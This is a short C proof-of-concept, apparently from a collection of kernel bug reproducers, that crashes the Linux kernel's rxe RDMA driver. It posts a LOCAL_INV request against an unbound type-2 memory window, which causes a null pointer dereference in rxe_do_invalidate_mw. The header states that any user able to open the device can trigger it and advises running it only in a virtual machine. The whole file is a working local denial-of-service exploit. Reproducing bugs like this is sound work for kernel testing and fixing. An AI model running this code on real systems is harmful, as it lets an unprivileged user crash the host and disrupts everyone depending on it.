/*
 * The kernel's rxe: LOCAL_INV of a memory window of type 2 that is not bound dereferences null in the kernel
 * (drivers/infiniband/sw/rxe/rxe_mw.c, `rxe_do_invalidate_mw`). Any user who may open the device can do it: run it in a
 * virtual machine only.
 *
 *     cc -o local-inv local-inv-of-unbound-window.c -libverbs && ./local-inv DEVICE GID_INDEX
 *
 * A device without the defect completes the request with an error.
 */
#include "bugs.h"

#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct ibv_context *context = argc == 3 ? open_named(argv[1]) : NULL;
	struct ibv_send_wr wr = { .opcode = IBV_WR_LOCAL_INV, .send_flags = IBV_SEND_SIGNALED }, *bad;
	struct ibv_qp_init_attr init = { .cap = { 4, 4, 1, 1, 0 }, .qp_type = IBV_QPT_RC };
	struct ibv_pd *pd;
	struct ibv_qp *qp;
	struct ibv_mw *mw;
	struct ibv_wc wc;

	if (!context) {
		fprintf(stderr, "usage: local-inv DEVICE GID_INDEX\n");
		return 2;
	}
	pd = ibv_alloc_pd(context);
	init.send_cq = init.recv_cq = ibv_create_cq(context, 16, NULL, NULL, 0);
	qp = ibv_create_qp(pd, &init);
	mw = ibv_alloc_mw(pd, IBV_MW_TYPE_2);
	if (!qp || !mw)
		return 1;
	if (connect_with_itself(qp, argv[2]))
		return 1;
	wr.invalidate_rkey = mw->rkey;
	if (ibv_post_send(qp, &wr, &bad)) {
		printf("refused when posted\n");
		return 0;
	}
	for (int i = 0; i < 1000; i++) {
		if (ibv_poll_cq(init.send_cq, 1, &wc) > 0) {
			printf("completes: %s\n", ibv_wc_status_str(wc.status));
			return 0;
		}
		usleep(10000);
	}
	printf("does not complete\n");
	return 1;
}
